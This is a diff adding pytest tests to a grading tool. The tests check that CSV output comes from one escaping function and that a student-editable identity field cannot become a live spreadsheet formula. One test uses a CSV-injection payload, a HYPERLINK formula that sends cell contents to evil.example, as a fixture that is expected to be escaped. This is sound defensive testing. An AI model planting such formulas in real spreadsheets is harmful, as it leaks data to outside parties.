@@ -11,6 +11,7 @@ from pathlib import Path
 
 import pytest
 
+from autograder import writing
 from autograder.engine import assignment as assignment_mod
 from autograder.engine import files, summary, untrusted
 from autograder.engine.batch import Batch
@@ -238,3 +239,26 @@ def test_one_students_failing_report_stops_no_other(tmp_path, monkeypatch):
     report = (tmp_path / "report.html").read_text()
     assert "This plot could not be drawn: score distribution" in report
     assert report.count('<img class="plot"') == 3
+
+
+# ---- CSV: one function writes every file ---------------------------------------------
+
+def test_every_csv_file_is_written_by_one_function():
+    """Only autograder/writing.py makes CSV (csv_text escapes every cell): a writer of
+    its own elsewhere once left identity_flags.csv unescaped."""
+    from autograder import paths
+    writers = [str(p.relative_to(paths.PACKAGE)) for p in sorted(paths.PACKAGE.rglob("*.py"))
+               if p.name != "writing.py" and re.search(r"csv\.(writer|DictWriter)\b", p.read_text())]
+    assert writers == []
+
+
+def test_identity_flags_csv_never_holds_a_formula():
+    """An identity the platform gives (a Gradescope sid is the student's to edit) that
+    a spreadsheet would run: written as text, as in every other CSV."""
+    from autograder.exam import free_response
+    from autograder.exam import reports as exam_reports
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"s1")'
+    sheet = free_response.Sheet("s1", formula, "IDENTITY FLAG: ...", {}, [])
+    rows = list(csv.reader(io.StringIO(exam_reports._flags_csv([sheet]))))
+    assert rows[1][1] == "'" + formula
+    assert writing.spreadsheet_cell("-0.5") == "-0.5" and writing.spreadsheet_cell("-1+2") == "'-1+2"
